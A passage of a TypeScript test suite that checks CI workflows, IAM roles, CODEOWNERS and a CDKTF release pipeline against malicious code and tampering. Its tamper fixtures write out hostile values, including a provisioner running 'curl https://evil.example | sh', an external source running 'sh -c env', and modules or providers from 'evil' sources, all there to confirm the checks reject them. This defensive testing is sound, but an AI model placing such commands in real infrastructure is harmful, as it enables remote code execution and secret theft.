    expect(simulate(DRIFT, two, "bootstrap").role).toBe(`arn:aws:iam::${config.project.accountId}:role/acme-drift`);
    expect(simulate(DRIFT, two, "prod").picked.outputs.TF_STATE_BUCKET).toBe(`acme-tfstate-${PROD_ACCOUNT}-${config.project.region}`);
  });

  it("the backend check fails, naming the variables, when the Terraform names another account's bucket", () => {
    const [, two] = layouts[1];
    for (const file of [PR, DRIFT]) {
      const { checked } = simulate(file, two, "prod", "stage");
      expect(checked.status).toBe(1);
      expect(checked.log).toContain(`::error::the synthesized backend of cdktf.out/stacks/prod differs from the repository variables`);
    }
  });

  it("fails clearly when the stack has no variables (an environment the github stack does not know)", () => {
    const wf = workflows[PR];
    const job = wf.jobs.plan;
    const pick = job.steps!.find((s) => s.id === "account")!;
    const cwd = mkdtempSync(join(tmpdir(), "workflow-missing-"));
    const result = runStep(wf, job, pick, { matrix: { environment: "qa" }, vars: appliedVariables(platform), outputs: {} }, cwd);
    expect(result.status).toBe(1);
    expect(result.log).toContain("::error::the repository variable AWS_PLAN_ROLE_ARN_QA is not set");
    expect(result.outputs).toEqual({});
  });
});

describe("image selection", () => {
  // A command line that deploys, not a message that tells the reader to.
  const deploys = runs(/^\s*(npx )?cdktf deploy\b/m);

  it("no workflow sets IMAGE_TAG where cdktf deploy runs (main.ts refuses IMAGE_TAG with IMAGE_DIGEST)", () => {
    for (const j of jobs) {
      for (const s of (j.job.steps ?? []).filter(deploys)) {
        expect({ job: at(j), env: Object.keys(envOf(j.wf, j.job, s)).filter((k) => k === "IMAGE_TAG") }).toEqual({ job: at(j), env: [] });
        expect(s.run).not.toContain("IMAGE_TAG");
      }
      if ((j.job.steps ?? []).some(deploys)) expect(runLines(j.job).filter((l) => /IMAGE_TAG=/.test(l))).toEqual([]);
    }
  });
});

describe("dependabot", () => {
  const text = repoFile(".github/dependabot.yml");
  const dependabot = text === undefined ? undefined : (parseYaml(text) as { version: number; updates: Record<string, any>[] });

  it("updates the pinned actions, npm packages, API base image and BuildKit image weekly, one grouped pull request each", () => {
    expect(dependabot?.version).toBe(2);
    const updates = dependabot!.updates;
    expect(updates.map((u) => `${u["package-ecosystem"]} ${u.directory}`).sort()).toEqual(
      ["docker /.github/buildkit", "docker /api", "github-actions /", "npm /"].sort(),
    );
    for (const u of updates) {
      expect(u.schedule).toEqual({ interval: "weekly" });
      const groups = Object.values(u.groups ?? {}) as { patterns?: string[] }[];
      expect(groups).toHaveLength(1);
      expect(groups[0].patterns).toEqual(["*"]);
    }
  });
});

describe("CODEOWNERS", () => {
  const text = repoFile(".github/CODEOWNERS");
  const rules = (text ?? "")
    .split("\n")
    .map((l) => l.trim())
    .filter((l) => l && !l.startsWith("#"))
    .map((l) => l.split(/\s+/))
    .map(([pattern, ...owners]) => ({ pattern, owners }));
  const owners = config.project.github.platformOwners;

  it("gives everything a default owner first: `*`, the config's platform owners exactly", () => {
    expect(text).toBeDefined();
    expect(owners.length).toBeGreaterThan(0);
    expect(rules[0]).toEqual({ pattern: "*", owners: [...owners] });
  });

  it("keeps the platform owners on every exception (the last matching rule replaces `*`), so no path is left without them", () => {
    for (const r of rules) {
      expect({ pattern: r.pattern, missing: owners.filter((o) => !r.owners.includes(o)) }).toEqual({ pattern: r.pattern, missing: [] });
    }
  });

  it("states its exceptions and says in its header that the list must equal the config", () => {
    expect(text).toMatch(/^#[\s\S]*project\.github\.platformOwners/);
    expect(text).toMatch(/^# Exceptions:/m);
  });
});

describe("the deploy role allows every registry call the deploy makes", () => {
  /** IAM actions behind each registry command deploy.yml runs (skopeo's push and its manifest checks). */
  const ACTIONS: Record<string, string[]> = {
    "aws ecr describe-images": ["ecr:DescribeImages"],
    "aws ecr describe-repositories": ["ecr:DescribeRepositories"],
    "aws ecr get-login-password": ["ecr:GetAuthorizationToken"],
    "skopeo copy": [
      "ecr:BatchCheckLayerAvailability",
      "ecr:InitiateLayerUpload",
      "ecr:UploadLayerPart",
      "ecr:CompleteLayerUpload",
      "ecr:PutImage",
      "ecr:BatchGetImage",
    ],
    "skopeo login": [],
  };
  const deploy = workflows[DEPLOY].jobs.deploy;
  const calls = [...new Set(runLines(deploy).flatMap((l) => [...l.matchAll(/\b(aws ecr [a-z-]+|skopeo [a-z]+)/g)].map((m) => m[1])))];

  it("knows the IAM actions of every registry command in deploy.yml", () => {
    expect(calls.length).toBeGreaterThan(3);
    expect(calls.filter((c) => !(c in ACTIONS))).toEqual([]);
  });

  it.each(envNames)("the %s deploy role allows each of them on its own repository (or, for the login, on *)", (env) => {
    // The bootstrap of the environment's account holds its deploy role.
    const bootstrap = bootstraps.find((b) =>
      Object.values(resources(b, "aws_iam_role")).some((r) => r.name === `${config.project.name}-${env}-deploy`),
    )!;
    const [id] = Object.entries(resources(bootstrap, "aws_iam_role")).find(([, r]) => r.name === `${config.project.name}-${env}-deploy`)!;
    const inline = Object.values(resources(bootstrap, "aws_iam_role_policy")).find((p) => p.role === `\${aws_iam_role.${id}.id}`)!;
    const statements: { Effect: string; Action: string | string[]; Resource: string | string[] }[] = JSON.parse(inline.policy).Statement;
    const list = (v: string | string[]) => (Array.isArray(v) ? v : [v]);
    const account = environmentAccount(config.project, config.environments.find((e) => e.name === env)!);
    const repository = `arn:aws:ecr:${config.project.region}:${account}:repository/${config.project.name}-${env}-api`;
    const matches = (pattern: string, value: string) =>
      new RegExp(`^${pattern.replace(/[.+?^${}()|[\]\\]/g, "\\$&").replace(/\*/g, ".*")}$`).test(value);
    for (const action of calls.flatMap((c) => ACTIONS[c])) {
      const resource = action === "ecr:GetAuthorizationToken" ? "*" : repository;
      const allowed = statements.some(
        (s) => s.Effect === "Allow" && list(s.Action).some((a) => matches(a, action)) && list(s.Resource).some((r) => matches(r, resource)),
      );
      const denied = statements.some((s) => s.Effect === "Deny" && list(s.Action).includes(action) && list(s.Resource).includes("*"));
      expect({ action, allowed, denied }).toEqual({ action, allowed: true, denied: false });
    }
  });
});

/**
 * The release path against one malicious writer and one malicious npm package (issue 20): no job that
 * can mint an OIDC token runs npm or the repository's code, everything a job pulls is pinned, each
 * role trusts exactly the workflow that uses it, and what the privileged jobs run is checked first.
 */
describe("release path: no package code where a token can be minted", () => {
  const privileged = jobs.filter((j) => holdsIdToken(j.job) && j.job.steps !== undefined);

  it("every job with id-token: write checks nothing out and runs no npm, npx, node or file of the repository", () => {
    expect(privileged.map(at).sort()).toEqual(
      [
        `${DEPLOY} job deploy`,
        `${DRIFT} job plan`,
        `${PR} job plan`,
        `${STAGE} job attest`,
        ...["attest", "previews", "deploy", "destroy"].map((id) => `${PREVIEW} job ${id}`),
        ...["previews", "destroy"].map((id) => `${REAPER} job ${id}`),
      ].sort(),
    );
    for (const j of privileged) {
      const found = {
        job: at(j),
        checkout: stepsUsing(j.job, "actions/checkout").length,
        setupNode: stepsUsing(j.job, "actions/setup-node").length,
        localActions: (j.job.steps ?? []).filter((s) => s.uses?.startsWith("./")).length,
        lines: runLines(j.job).filter((l) => /(^|[\s;(|&$])(npm|npx|node|tsx|yarn|pnpm|make|\.\/[\w./-]+|bash [\w./-]+\.sh)(\s|$)/.test(l)),
      };
      expect(found).toEqual({ job: at(j), checkout: 0, setupNode: 0, localActions: 0, lines: [] });
    }
  });

  it("every job that runs npm installs without install scripts, except the tests' own job (it holds a read-only token only)", () => {
    for (const j of jobs) {
      for (const l of runLines(j.job).filter((l) => /^npm (ci|install)\b/.test(l))) {
        if (j.file === PR && (j.id === "test" || j.id === "synth")) continue;
        expect({ job: at(j), line: l, ignoreScripts: l.includes("--ignore-scripts") }).toEqual({
          job: at(j),
          line: l,
          ignoreScripts: true,
        });
      }
    }
    for (const id of ["test", "synth"]) expect(workflows[PR].jobs[id].permissions).toEqual({ contents: "read" });
  });

  it("no run: step interpolates an expression (script injection): values reach scripts through env", () => {
    const interpolating = jobs.flatMap((j) =>
      (j.job.steps ?? []).filter((s) => /\$\{\{/.test(s.run ?? "")).map((s) => `${at(j)}: ${s.name}`),
    );
    expect(interpolating).toEqual([]);
  });

  it("a job that assumes a role holds the id-token; one that runs npm never does", () => {
    for (const j of jobs.filter((j) => j.job.steps)) {
      const npm = runLines(j.job).some((l) => /^(npm|npx) /.test(l));
      expect({ job: at(j), npmWithToken: npm && holdsIdToken(j.job) }).toEqual({ job: at(j), npmWithToken: false });
    }
  });
});

describe("release path: each role trusts exactly the workflow file and ref that use it", () => {
  const owner = `${config.project.github.owner}/${config.project.github.repo}`;
  /** For each role variable a job reads, the trusted subject's endings (one per workflow file that assumes the role). */
  const expected: [string, string][] = [
    [`vars.${ENVIRONMENT_VARIABLES.deployRoleArn}`, `:${workflowRef(`.github/workflows/${DEPLOY}`)}`],
    [STACK_VARIABLES.planRoleArn, `:${workflowRef(`.github/workflows/${PR}`, "refs/pull/*/merge")}`],
    [STACK_VARIABLES.driftRoleArn, `:${workflowRef(`.github/workflows/${DRIFT}`)}`],
    [`vars.${PREVIEW_ROLE_VARIABLE}`, `:${workflowRef(`.github/workflows/${PREVIEW}`, "refs/pull/*/merge")}`],
    [`vars.${PREVIEW_ROLE_VARIABLE}`, `:${workflowRef(`.github/workflows/${REAPER}`)}`],
  ];

  it("the workflow files the roles name are the files of the jobs that assume them", () => {
    expect(GITHUB_WORKFLOWS).toEqual({
      deploy: `.github/workflows/${DEPLOY}`,
      drift: `.github/workflows/${DRIFT}`,
      plan: `.github/workflows/${PR}`,
      preview: ".github/workflows/preview.yml",
      previewReaper: ".github/workflows/preview-reaper.yml",
    });
    for (const variable of new Set(expected.map(([v]) => v))) {
      const assumers = jobs.filter((j) =>
        stepsUsing(j.job, "aws-actions/configure-aws-credentials").some((s) => String(s.with?.["role-to-assume"]).includes(variable)),
      );
      const files = [...new Set(assumers.map((j) => `${owner}/.github/workflows/${j.file}@`))].sort();
      const endings = expected.filter(([v]) => v === variable).map(([, e]) => e);
      expect({ variable, files }).toEqual({ variable, files: endings.map((e) => /job_workflow_ref:(.*@)/.exec(e)![1]).sort() });
    }
  });

  it("every role GitHub's tokens assume names its workflow's job_workflow_ref in the subject it trusts", () => {
    // In every account: each environment's deploy role, and a plan and a drift role per account; in the previews'
    // host's account the preview role, with its two subjects (preview.yml's pull requests, the reaper on the default branch).
    const githubRoles = bootstrapRoles.filter((r) => subjectsOf(r).length > 0);
    expect(githubRoles.length).toBe(envNames.length + 2 * bootstraps.length + 1);
    const preview = githubRoles.filter((r) => r.name === previewDeployRoleName(config.project.name));
    expect(preview.map(subjectsOf)).toEqual([
      [
        `repo:${REPO}:pull_request:${workflowRef(`.github/workflows/${PREVIEW}`, PR_REF)}`,
        `repo:${REPO}:ref:refs/heads/${defaultBranch}:${workflowRef(`.github/workflows/${REAPER}`)}`,
      ],
    ]);
    for (const role of githubRoles) {
      for (const sub of subjectsOf(role)) {
        const endings = expected.map(([, e]) => e).filter((e) => sub.endsWith(e));
        expect({ role: role.name, sub, endings: endings.length }).toEqual({ role: role.name, sub, endings: 1 });
      }
    }
  });

  it("the github stack makes GitHub put the job_workflow_ref in every token's subject", () => {
    const [template] = Object.values(resources(github, "github_actions_repository_oidc_subject_claim_customization_template"));
    expect(template?.include_claim_keys).toEqual(["repo", "context", "job_workflow_ref"]);
  });
});

describe("release path: everything a job pulls at run time is pinned", () => {
  const buildkitFile = repoFile(".github/buildkit/Dockerfile") ?? "";
  const build = workflows[STAGE].jobs.build;
  const read = build?.steps?.find((s) => s.id === "buildkit");

  it("the builder runs the BuildKit image named by digest in .github/buildkit/Dockerfile, not the action's moving tag", () => {
    const [buildx] = stepsUsing(build, "docker/setup-buildx-action");
    expect(buildx.with?.["driver-opts"]).toBe("image=${{ steps.buildkit.outputs.image }}");
    expect(stepIndex(build, (s) => s.id === "buildkit")).toBeLessThan(stepIndex(build, (s) => s === buildx));
    const cwd = mkdtempSync(join(tmpdir(), "buildkit-"));
    mkdirSync(join(cwd, ".github", "buildkit"), { recursive: true });
    writeFileSync(join(cwd, ".github", "buildkit", "Dockerfile"), buildkitFile);
    writeFileSync(join(cwd, "out"), "");
    const ran = bash(read!.run!, { GITHUB_OUTPUT: join(cwd, "out") }, cwd);
    expect(ran).toEqual({ status: 0, log: "" });
    expect(readFileSync(join(cwd, "out"), "utf8")).toMatch(/^image=moby\/buildkit:[\w.-]+@sha256:[0-9a-f]{64}\n$/);
  });

  it("refuses a BuildKit image named by tag alone", () => {
    const cwd = mkdtempSync(join(tmpdir(), "buildkit-"));
    mkdirSync(join(cwd, ".github", "buildkit"), { recursive: true });
    writeFileSync(join(cwd, ".github", "buildkit", "Dockerfile"), "FROM moby/buildkit:buildx-stable-1\n");
    const ran = bash(read!.run!, { GITHUB_OUTPUT: join(cwd, "out") }, cwd);
    expect(ran.status).toBe(1);
    expect(ran.log).toContain("::error::.github/buildkit/Dockerfile must name moby/buildkit:<tag>@sha256:<64 hex>");
  });

  it("no job runs a container, service or docker image that is not named by digest", () => {
    for (const j of jobs) {
      expect({ job: at(j), container: (j.job as any).container, services: (j.job as any).services }).toEqual({ job: at(j) });
      const images = runLines(j.job).filter((l) => /docker (run|pull|create)\b/.test(l) && !/@sha256:[0-9a-f]{64}/.test(l));
      expect({ job: at(j), images }).toEqual({ job: at(j), images: [] });
    }
  });

  it("no job with an id-token downloads a tool through a setup action: Terraform comes by a pinned sha256, the same everywhere", () => {
    const installs = jobs.flatMap((j) => (j.job.steps ?? []).filter((s) => s.name === PINNED_TERRAFORM_STEP).map((s) => ({ j, s })));
    expect(installs.map(({ j }) => at(j)).sort()).toEqual(TERRAFORM_JOBS);
    for (const j of jobs.filter((j) => holdsIdToken(j.job))) {
      const setups = (j.job.steps ?? []).filter((s) => /^(actions\/setup-|hashicorp\/setup-)/.test(action(s.uses) ?? ""));
      expect({ job: at(j), setups }).toEqual({ job: at(j), setups: [] });
    }
    const [first] = installs;
    for (const { j, s } of installs) {
      expect(s.run).toBe(first.s.run);
      expect(s.run).toMatch(/sha256sum --check --strict\n[\s\S]*unzip/);
      expect(j.job.env?.TERRAFORM_VERSION).toBe(TERRAFORM_VERSION);
      expect(String(j.job.env?.TERRAFORM_SHA256)).toMatch(/^[0-9a-f]{64}$/);
      expect(j.job.env?.TERRAFORM_SHA256).toBe(first.j.job.env?.TERRAFORM_SHA256);
    }
  });
});

describe("release path: the privileged jobs check what the synth job made before any credential", () => {
  const vets = jobs.flatMap((j) => (j.job.steps ?? []).filter((s) => s.name === VET_STEP).map((s) => ({ j, s })));
  const vet = vets[0]?.s.run ?? "";
  /** Runs the check on `tf` as the stack `stack`'s cdk.tf.json, with `extra` files beside it. */
  function check(tf: unknown, extra: string[] = []) {
    const cwd = mkdtempSync(join(tmpdir(), "vet-"));
    const dir = join(cwd, "cdktf.out", "stacks", "prod");
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "cdk.tf.json"), JSON.stringify(tf));
    for (const f of extra) writeFileSync(join(dir, f), "x");
    return bash(vet, { STACK_DIR: "cdktf.out/stacks/prod" }, cwd);
  }
  const prod = () => parse(Testing.synth(platform.environments.prod)) as any;

  it("every job that plans or applies synthesized Terraform with a role runs the one check, after the download and before the role", () => {
    expect(vets.map(({ j }) => at(j)).sort()).toEqual(TERRAFORM_JOBS);
    for (const { j, s } of vets) {
      expect(s.run).toBe(vet);
      const steps = j.job.steps!;
      const i = steps.indexOf(s);
      const assume = stepIndex(j.job, (x) => action(x.uses) === "aws-actions/configure-aws-credentials");
      const terraform = stepIndex(j.job, (x) => /terraform -chdir/.test(x.run ?? ""));
      expect({ job: at(j), beforeAssume: i < assume, beforeTerraform: i < terraform }).toEqual({
        job: at(j),
        beforeAssume: true,
        beforeTerraform: true,
      });
    }
  });

  it("passes every AWS stack the app synthesizes, in one account and in two (prod's bootstrap state in its bucket)", () => {
    const two = sampleConfig() as any;
    two.project.accounts = [{ ...two.project.accounts[0], bootstrap: { stateInBucket: true } }];
    for (const p of [buildSample(oneAccountConfig()), platform, buildSample(two as PlatformConfig)]) {
      for (const stack of awsStacks(p)) {
        const tf = parse(Testing.synth(p.bootstraps[stack] ?? p.environments[stack]));
        expect({ stack, ...check(tf) }).toEqual({ stack, status: 0, log: "" });
      }
    }
  });

  it.each<[string, (tf: any) => void, RegExp]>([
    [
      "a local-exec provisioner",
      (tf) => {
        const [type] = Object.keys(tf.resource);
        const [name] = Object.keys(tf.resource[type]);
        tf.resource[type][name].provisioner = [{ "local-exec": { command: "curl https://evil.example | sh" } }];
      },
      /a provisioner or connection on aws_/,
    ],
    ["an external data source", (tf) => void (tf.data.external = { x: { program: ["sh", "-c", "env"] } }), /data source external/],
    ["a module", (tf) => void (tf.module = { m: { source: "git::https://evil.example/m" } }), /module m/],
    ["another provider", (tf) => void (tf.terraform.required_providers.null = { source: "hashicorp/null" }), /provider null from/],
    ["a resource of another provider", (tf) => void (tf.resource.null_resource = { n: {} }), /resource type null_resource/],
    [
      "the AWS provider from elsewhere",
      (tf) => void (tf.terraform.required_providers.aws.source = "evil/aws"),
      /provider aws from evil\/aws/,
    ],
    ["a provider profile", (tf) => void (tf.provider.aws[0].profile = "evil"), /aws provider setting profile/],
    ["a provider config file", (tf) => void (tf.provider.aws[0].shared_config_files = ["./c"]), /aws provider setting shared_config_files/],
    ["a backend profile", (tf) => void (tf.terraform.backend.s3.profile = "evil"), /backend setting profile/],
    [
      "an http remote state",
      (tf) => void (tf.data.terraform_remote_state = { s: { backend: "http", config: {} } }),
      /remote state s from http/,
    ],
  ])("fails, naming it, on %s", (_what, tamper, message) => {
    const tf = prod();
    tamper(tf);
    const ran = check(tf);
    expect(ran.status).toBe(1);
    expect(ran.log).toContain("::error::cdktf.out/stacks/prod/cdk.tf.json must only call AWS through the AWS provider");
    expect(ran.log).toMatch(message);
  });

  it("fails on a file beside cdk.tf.json (a config file a setting could point to)", () => {
    const ran = check(prod(), ["aws-config"]);
    expect(ran.status).toBe(1);
    expect(ran.log).toContain("::error::cdktf.out/stacks/prod holds more than cdk.tf.json: cdktf.out/stacks/prod/aws-config");
  });
});

describe("release path: the deploy applies the synth job's tarball, checked by its digest", () => {
  const wf = workflows[DEPLOY];
  const synth = wf.jobs.synth;
  const deploy = wf.jobs.deploy;
  // Looked up leniently, so a workflow without them fails these tests rather than the whole file.
  const pack = synth?.steps?.find((s) => s.id === "pack") ?? {};
  const unpack = deploy?.steps?.find((s) => s.name === "Check the release digest and unpack it") ?? {};
  const env = { STACK_DIR: "cdktf.out/stacks/prod", SITE_DIR: "site-dist" };

  /** Packs a workspace holding prod's Terraform and a site with the synth job's step; returns the digest it output. */
  function packed(): { cwd: string; digest: string } {
    const cwd = mkdtempSync(join(tmpdir(), "release-"));
    mkdirSync(join(cwd, "cdktf.out", "stacks", "prod"), { recursive: true });
    mkdirSync(join(cwd, "site-dist"), { recursive: true });
    writeFileSync(join(cwd, "cdktf.out", "stacks", "prod", "cdk.tf.json"), Testing.synth(platform.environments.prod));
    writeFileSync(join(cwd, "site-dist", "index.html"), "<p>prod</p>");
    writeFileSync(join(cwd, "out"), "");
    expect(bash(pack.run!, { ...env, GITHUB_OUTPUT: join(cwd, "out") }, cwd)).toEqual({ status: 0, log: "" });
    return { cwd, digest: /^digest=(.*)$/m.exec(readFileSync(join(cwd, "out"), "utf8"))![1] };
  }
  /** The deploy job's check, in a fresh workspace holding only the downloaded tarball. */
  function unpacked(from: string, digest: string) {
    const cwd = mkdtempSync(join(tmpdir(), "deploy-"));
    mkdirSync(join(cwd, "release"));
    writeFileSync(join(cwd, "release", "release.tar"), readFileSync(join(from, "release", "release.tar")));
    return { cwd, ...bash(unpack.run!, { ...env, RELEASE_DIGEST: digest }, cwd) };
  }

  it("unpacks exactly what the synth job packed when the digest matches", () => {
    const { cwd, digest } = packed();
    expect(digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const out = unpacked(cwd, digest);
    expect({ status: out.status, log: out.log }).toEqual({ status: 0, log: expect.stringContaining(": OK") });
    expect(readFileSync(join(out.cwd, "cdktf.out", "stacks", "prod", "cdk.tf.json"), "utf8")).toBe(
      Testing.synth(platform.environments.prod),
    );
  });

  it("names artifacts a later job reads without the attempt, overwritten on a re-run, so re-running that job alone works", () => {
    for (const file of [DEPLOY, DRIFT]) {
      for (const [id, job] of Object.entries(workflows[file].jobs)) {
        for (const upload of stepsUsing(job, "actions/upload-artifact")) {
          expect({ file, id, name: String(upload.with?.name).includes("run_attempt"), overwrite: upload.with?.overwrite }).toEqual({
            file,
            id,
            name: false,
            overwrite: true,
          });
        }
      }
    }
  });

  it("the deploy job refuses Terraform whose task definitions do not all run the verified digest", () => {
    const step = deploy?.steps?.find((s) => s.name === "Check the Terraform deploys the verified image")?.run ?? "exit 2";
    const digest = `sha256:${"c".repeat(64)}`;
    const run = (tf: string) => {
      const cwd = mkdtempSync(join(tmpdir(), "pinned-"));
      mkdirSync(join(cwd, "cdktf.out", "stacks", "prod"), { recursive: true });
      writeFileSync(join(cwd, "cdktf.out", "stacks", "prod", "cdk.tf.json"), tf);
      return bash(step, { ...env, ENVIRONMENT: "prod", IMAGE_DIGEST: digest }, cwd);
    };
    expect(run(Testing.synth(buildSample(config, { imageDigest: digest }).environments.prod))).toEqual({ status: 0, log: "" });
    const other = run(Testing.synth(buildSample(config, { imageDigest: `sha256:${"d".repeat(64)}` }).environments.prod));
    expect(other.status).toBe(1);
    expect(other.log).toContain(`::error::the synthesized task definitions of prod do not all run ${digest}`);
    expect(run(Testing.synth(platform.environments.prod)).status).toBe(1);
  });

  it("refuses a tarball whose digest is not the synth job's output, before unpacking anything", () => {
    const { cwd } = packed();
    const out = unpacked(cwd, `sha256:${"0".repeat(64)}`);
    expect(out.status).not.toBe(0);
    expect(out.log).toContain("FAILED");
    expect(existsSync(join(out.cwd, "cdktf.out"))).toBe(false);
  });

  it("refuses a tarball with anything outside the stack and the site", () => {
    const { cwd } = packed();
    writeFileSync(join(cwd, ".npmrc"), "x");
    const evil = bash('tar -cf "$RUNNER_TEMP/release/release.tar" cdktf.out/stacks/prod site-dist .npmrc', {}, cwd);
    expect(evil.status).toBe(0);
    const digest = `sha256:${execSync(`sha256sum "${join(cwd, "release", "release.tar")}"`, { encoding: "utf8" }).split(" ")[0]}`;
    const out = unpacked(cwd, digest);
    expect(out.status).toBe(1);
    expect(out.log).toContain("::error::the release holds what it must not");
    expect(out.log).toContain(".npmrc");
  });
});

describe("release path: the drift check plans the deployed image and hands on no value", () => {
  const plan = workflows[DRIFT].jobs.plan;
  const pin = plan?.steps?.find((s) => s.name === "Pin the deployed image")?.run ?? "";
  const reduce = plan?.steps?.find((s) => s.name === "Keep the plan's changes without their values")?.run ?? "";
  const pinFilter = /jq --arg suffix "\$suffix" '([\s\S]*?)' "\$tf" > "\$tf\.pinned"/.exec(pin)?.[1] ?? "missing";
  const reduceFilter = /jq -c '([\s\S]*?)' "\$RUNNER_TEMP\/plan\.json"/.exec(reduce)?.[1] ?? "missing";
  const jq = (filter: string, input: unknown, args: string[] = []) =>
    JSON.parse(
      execFileSync("jq", ["-c", ...args, "-f", writeTemp(filter, "filter.jq"), writeTemp(JSON.stringify(input), "in.json")], {
        encoding: "utf8",
      }),
    );
  function writeTemp(text: string, name: string): string {
    const file = join(mkdtempSync(join(tmpdir(), "jq-")), name);
    writeFileSync(file, text);
    return file;
  }
  const definitions = (tf: any) =>
    Object.fromEntries(
      Object.entries(tf.resource.aws_ecs_task_definition).map(([k, v]: [string, any]) => [k, JSON.parse(v.container_definitions)]),
    );

  it("pins each task definition's image exactly as a synth with the deployed digest would", () => {
    const digest = `sha256:${"b".repeat(64)}`;
    for (const env of envNames) {
      const placeholder = parse(Testing.synth(buildSample(config).environments[env]));
      const deployed = parse(Testing.synth(buildSample(config, { imageDigest: digest }).environments[env]));
      const pinned = jq(pinFilter, placeholder, ["--arg", "suffix", `@${digest}`]);
      expect(definitions(pinned)).toEqual(definitions(deployed));
      expect(Object.keys(definitions(pinned)).length).toBeGreaterThan(0);
      expect({ ...pinned, resource: { ...pinned.resource, aws_ecs_task_definition: {} } }).toEqual({
        ...placeholder,
        resource: { ...placeholder.resource, aws_ecs_task_definition: {} },
      });
    }
  });

  it("asks ECS for every service of the stack, ten a call, and pins the one image they all run", () => {
    const digest = `sha256:${"c".repeat(64)}`;
    const shipped = parse(Testing.synth(platform.environments.stage));
    const { tf, names } = withMoreServices(shipped, 10);
    const cluster = Object.values(resources(shipped, "aws_ecs_cluster"))[0].name as string;
    const pinWith = (images: Record<string, string>) => {
      const cwd = stackCheckout("stage", tf);
      const aws = fakeAws(cwd);
      const env = { PATH: aws.path, STACK: "stage", STACK_DIR: "cdktf.out/stacks/stage", FAKE_AWS_IMAGES: JSON.stringify(images) };
      const result = bash(pin, env, cwd);
      const pinned = JSON.parse(readFileSync(join(cwd, "cdktf.out", "stacks", "stage", "cdk.tf.json"), "utf8"));
      return { ...result, calls: aws.calls(), pinned };
    };
    const same = pinWith({ "*": `123456789012.dkr.ecr.eu-west-1.amazonaws.com/acme-stage-api@${digest}` });
    expect({ status: same.status, log: same.status === 0 ? "" : same.log }).toEqual({ status: 0, log: "" });
    const described = same.calls.filter((c) => c.startsWith("ecs describe-services"));
    expect(described).toEqual(
      [names.slice(0, 10), names.slice(10)].map(
        (chunk) => `ecs describe-services --cluster ${cluster} --services ${chunk.join(" ")} --output json`,
      ),
    );
    expect(same.calls.filter((c) => c.startsWith("ecs describe-task-definition"))).toHaveLength(names.length);
    const deployed = parse(Testing.synth(buildSample(config, { imageDigest: digest }).environments.stage));
    expect(definitions(same.pinned)).toEqual(definitions(deployed));
    // A service the last deploy left on another image: no one image to plan with, said so, nothing pinned.
    const split = pinWith({ "*": `repo@${digest}`, [names[10]]: "repo:latest" });
    expect(split.status).toBe(1);
    expect(split.log).toContain(`::error::the ${names.length} services of stage (${names.join(" ")}) run 2 images`);
    expect(split.pinned).toEqual(tf);
  });

  it("keeps what drift.ts reports from a plan, and none of the plan's values", () => {
    const full = {
      resource_changes: [
        {
          address: "aws_security_group.api",
          mode: "managed",
          type: "aws_security_group",
          change: {
            actions: ["update"],
            before: { ingress: [1], name: "api", secret: "s3cr3t" },
            after: { ingress: [2], name: "api", secret: "n3w" },
          },
        },
        {
          address: "aws_s3_bucket.site",
          mode: "managed",
          change: { actions: ["delete", "create"], before: { bucket: "a" }, after: { bucket: "b" } },
        },
        { address: "aws_sqs_queue.q", mode: "managed", change: { actions: ["create"], before: null, after: { name: "q" } } },
        { address: "data.aws_region.r", mode: "data", change: { actions: ["read"], before: null, after: { name: "eu-west-1" } } },
        { address: "aws_iam_role.same", mode: "managed", change: { actions: ["no-op"], before: { name: "r" }, after: { name: "r" } } },
      ],
      resource_drift: [{ address: "aws_security_group.api", change: { actions: ["update"], before: { secret: "old" } } }],
    };
    const reduced = jq(reduceFilter, full);
    expect(driftFromPlan(reduced)).toEqual(driftFromPlan(full));
    expect(driftFromPlan(full).map((d) => d.attributes)).toEqual([["bucket"], ["ingress", "secret"], []]);
    const text = JSON.stringify(reduced);
    for (const value of ["s3cr3t", "n3w", "old", '"a"', '"b"', "eu-west-1"])
      expect({ value, kept: text.includes(value) }).toEqual({ value, kept: false });
  });
});
